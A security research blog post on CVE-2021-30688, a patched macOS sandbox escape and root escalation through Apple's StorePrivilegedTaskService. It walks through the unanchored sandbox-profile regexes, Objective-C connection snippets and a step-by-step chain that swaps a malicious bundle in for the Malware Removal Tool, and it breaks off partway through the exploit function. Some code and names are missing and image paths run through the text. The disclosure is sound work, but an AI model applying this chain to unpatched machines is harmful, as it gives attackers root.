December 21, 2021

Sandbox escape + privilege escalation in StorePrivilegedTaskService

CVE-2021-30688 is a vulnerability which was fixed in macOS 11.4 that allowed a malicious application to escape the Mac Application Sandbox and to escalate its privileges to root. This vulnerability required a strange exploitation path due to the sandbox profile of the affected service.


At rC3 in 2020 and HITB Amsterdam 2021 Daan Keuper and Thijs Alkemade gave a talk on macOS local security. One of the subjects of this talk was the use of privileged helper tools and the vulnerabilities commonly found in them. To summarize, many applications install a privileged helper tool in order to install updates for the application. This allows normal (non-admin) users to install updates, which is normally not allowed due to the permissions on /Applications. A privileged helper tool is a service which runs as root which used for only a specific task that needs root privileges. In this case, this could be installing a package file.

Many applications that use such a tool contain two vulnerabilities that in combination lead to privilege escalation:1. Not verifying if a request to install a package comes from the main application.
  2. Not correctly verifying the authenticity of an update package.

As it turns out, the first issue not only affects third-party developers, but even Apple itself! Although in a slightly different way…

AboutStorePrivilegedTaskService

StorePrivilegedTaskService is a tool used by the Mac App Store to perform certain privileged operations, such as removing the quarantine flag of downloaded files, moving files and adding App Store receipts. It is an XPC service embedded in the AppStoreDaemon.framework private framework.

To explain this vulnerability, it would be best to first explain XPC services and Mach services, and the difference between those two.

First of all, XPC is an inter-process communication technology developed by Apple which is used extensively to communicate between different processes in all of Apple’s operating systems. In iOS, XPC is a private API, usable only indirectly by APIs that need to communicate with other processes. On macOS, developers can use it directly. One of the main benefits of XPC is that it sends structured data, supporting many data types such as integers, strings,dictionaries and arrays. This can in many cases avoid the use of serialization functions, which reduces the possibility of vulnerabilities due to parser bugs.

XPC services

An XPC service is a lightweight process related to another application. These are launched automatically when an application initiates an XPC connection and terminated after they are no longer used. Communication with the main process happens (of course) over XPC. The main benefit ofusing XPC services is the ability to separate dangerous operations or privileges, because the XPC service can have different entitlements.

For example, suppose an application needs network functionality for only one feature: to download a fixed URL. This means that when sandboxing the application, it would need full network client access (i.e. the entitlement). A vulnerability in this application can then also use the network access to send out arbitrary network traffic. If the functionality for performing the request would be moved to a different XPC service, then only this service would need the network permission. Compromising the main application would only allow it to retrieve that URL and compromising the XPC service would be unlikely, as it requires very little code. This pattern is how Apple uses these services throughout the system.

These services can have one of 3 possible service types:

  • Application: each application initiating a connection to an XPC service spawns a new process (though multiple connections from one application are still handled in the same process).
  • User: per user only one instance of an XPC service is running, handling requests from all applications running as that user.
  • System: only one instance of the XPC service is running and it runs asroot. Only available for Apple’s own XPC services.

Mach servicesWhile XPC services are local to an application, Mach services are accessible for XPC connections system wide by registering a name. A common way to register this name is through a launch agent or launch daemon config file. This can launch the process on demand, but the process is not terminated automatically when no longer in use, like XPC services are.

For example, some of the mach services of lsd:



Connecting to an XPC service using the NSXPCConnection API:

[[NSXPCConnection alloc] initWithServiceName:serviceName];

while connecting to a mach service:

[[NSXPCConnection alloc] initWithMachServiceName:name options:options];NSXPCConnection is a higher-level Objective-C API for XPC connections. When using it, an object with a list of methods can be made available to the other end of the connection. The connecting client can call these methods just like it would call any normal Objective-C methods. All serialization of objects as arguments is handled automatically.


XPC services in third-party applications rarely have interesting permissions to steal compared to a non-sandboxed application. Sanboxed services can have entitlements that create sandbox exceptions, for example to allow the service to access the network. Compared to a non-sandboxed application, these entitlements are not interesting to steal because the app is not sandboxed. TCC permissions are also usually set for the main application, not its XPC services (as that would generate rather confusing prompts for the end user).

A non-sandboxed application can therefore almost never gain anything by connecting to the XPC service of another application. The template for creating a new XPC service in Xcode does not even include a check on which application has connected!

This does, however, appear to give developers a false sense of security because they often do not add a permission check to Mach services either. Thisleads to the privileged helper tool vulnerabilities discussed in our talk. For Mach services running as root, a check on which application has connected is very important. Otherwise, any application could connect to the Mach service to request it to perform its operations.

StorePrivilegedTaskService vulnerability

Sandbox escape

The main vulnerability in the StorePrivilegedTaskService XPC service was that it did not check the application initiating the connection. This service has a service type of System, so it would launch as root.

This vulnerability was exploitable due to defense-in-depth measures which were ineffective:

  • StorePrivilegedTaskService is sandboxed, but its custom sandboxing profile is not restrictive enough.
  • For some operations, the service checked the paths passed as arguments to ensure they are a subdirectory of a specific directory. These checks could be bypassed using path traversal.

This XPC service is embedded in a framework. This means that even a sandboxed application could connect to the XPC service, by loading the framework and then connecting to the service.

[[NSBundle bundleWithPath:@"/System/Library/PrivateFrameworks/AppStoreDaemon.framework/"] load];

NSXPCConnection *conn = [[NSXPCConnection alloc] initWithServiceName:@""];

The XPC service offers a number of interesting methods that can be called from the application using an NSXPCConnection. For example:

// Write a file
- (void)writeAssetPackMetadata:(NSData *)metadata toURL:(NSURL *)url withReplyHandler:(void (^)(NSError *))replyHandler;
 // Delete an item
- (void)removePlaceholderAtPath:(NSString *)path withReplyHandler:(void (^)(NSError *))replyHandler;
// Change extended attributes for a path
- (void)setExtendedAttributeAtPath:(NSString *)path name:(NSString *)namevalue:(NSData *)value withReplyHandler:(void (^)(NSError *))replyHandler;
// Move an item
- (void)moveAssetPackAtPath:(NSString *)path toPath:(NSString *)toPath withReplyHandler:(void (^)(NSError *))replyHandler;

A sandbox escape was quite clear: write a new application bundle, use the method -setExtendedAttributeAtPath:name:value:withReplyHandler: to remove its quarantine flag and then launch it. However, this also needs to take into account the sandbox profile of the XPC service.

The service has a custom profile. The restriction related to files and folders are:

(allow file-read* file-write*
        (vnode-type DIRECTORY)
            (literal "/Library/Application Support/App Store")
            (regex #"\.app(download)?(/Contents)?")
            (regex #"\.app(download)?/Contents/_MASReceipt(\.sb-[a-zA-Z0-9-]+)?")))
        (vnode-type REGULAR-FILE)
            (literal "/Library/Application Support/App Store/adoption.plist")
            (literal "/Library/Preferences/")
            (regex #"\.appdownload/Contents/placeholderinfo")
            (regex #"\.appdownload/Icon")
            (regex #"\.app(download)?/Contents/_MASReceipt((\.sb-[a-zA-Z0-9-]+)?/receipt(\.saved)?)"))) ;covers temporary files the receipt may be named

    (subpath "/System/Library/Caches/")
    (subpath "/System/Library/Caches/OnDemandResources")

The intent of these rules is that this service can modify specific files in applications currently downloading from the app store, so with a .appdownload extension. For example, adding a MASReceipt file and changing the icon.

The regexes here are the most interesting, mainly because they are attached neither on the left nor right. On the left this makes sense, as the full path could be unknown, but the lack of binding it on the right (with $) is a mistake for the file regexes.

Formulated simply, we can do the following with this sandboxing profile:

  • All operations are allowed on directories containing .app anywhere in their path.
  • All operations are allowed on files containing .appdownload/Icon anywhere in their path.

By creating a specific directory structure in the temporary files directory of our sandboxed application:


Both the sandboxed application and the StorePrivilegedTaskService have full access inside the Icon folder. Therefore, it would be possible to create a new application here and then use -setExtendedAttributeAtPath:name:value:withReplyHandler: on theexecutable to dequarantine it.


This was already a nice vulnerability, but we were convinced we could escalate privileges to root as well. Having a process running as root creating new files in chosen directories with specific contents is such a powerful primitive that privilege escalation should be possible. However, the sandbox requirements on the paths made this difficult.

Creating a new launch daemon or cron jobs are common ways for privilege escalation by file creation, but the sandbox profile path requirements would only allow a subdirectory of a subdirectory of the directories for these config files, so this did not work.

An option that would work would be to modify an application. In particular, we found that Microsoft Teams would work. Teams is one of the applications that installs a launch daemon for installing updates. However, instead of copying a binary to /Library/PrivilegedHelperTools, the daemon points into the application bundle itself:


<?xml version="1.0" encoding="UTF-8"?><!DOCTYPE plist PUBLIC "-//Apple//DTD PLIST 1.0//EN" "">
<plist version="1.0">

The following would work for privilege escalation:

  1. Ask StorePrivilegedTaskService to move/Applications/Microsoft somewhere else. Allowed, because the path of the directory contains .app.1
  2. Move a new app bundle to/Applications/Microsoft, which contains a malicious executable file at Contents/TeamsUpdaterDaemon.xpc/Contents/MacOS/TeamsUpdaterDaemon.
  3. Connect to the Mach service.

However, a privilege escalation requiring a specific third-party application to be installed is not as convincing as a privilege escalation without this requirement, so we kept looking. The requirements are somewhat contradictory: typically anything bundled into an .app bundle runs as a normal user, not as root. In addition, the Signed System Volume on macOS Big Sur means changing any of the built-inapplications is also impossible.

By an impressive and ironic coincidence, there is an application which is installed on a new macOS installation, not on the SSV and which runs automatically as root:, the “Malware Removal Tool”. Apple has implemented a number of anti-malware mechanisms in macOS. These are all updateable without performing a full system upgrade because they might be needed quickly. This means in particular that is not on the SSV. Most malware is removed by signature or hash checks for malicious content, MRT is the more heavy-handed solution when Apple needs to add code for performing the removal.

Although is in an app bundle, it is not in fact a real application. At boot, MRT is run as root to check if any malware needs removing.

Our complete attack follows the following steps, from sandboxed application to code execution as root:

  1. Create a new application bundle bar.appdownload/Icon/ in the temporary directoryof our sandboxed application containing a malicious executable.
  2. Load theAppStoreDaemon.framework framework and connect to the StorePrivilegedTaskService XPC service.
  3. Ask StorePrivilegedTaskService to change the quarantine attribute for the executable file to allow it to launch without a prompt.
  4. Ask StorePrivilegedTaskService to move /Library/Apple/System/Library/CoreServices/ to a different location.
  5. Ask StorePrivilegedTaskService to move bar.appdownload/Icon/ from the temporary directory to /Library/Apple/System/Library/CoreServices/
  6. Wait for a reboot.

See the full function here:

/// The bar.appdownload/Icon part inthe path is needed to create files where both the sandbox profile of StorePrivilegedTaskService and the Mac AppStore sandbox of this process allow acccess.
NSString *path = [NSTemporaryDirectory() stringByAppendingPathComponent:@"bar.appdownload/Icon/"];
NSFileManager *fm = [NSFileManager defaultManager];
NSError *error = nil;

/// Cleanup, if needed.
[fm removeItemAtPath:path error:nil];

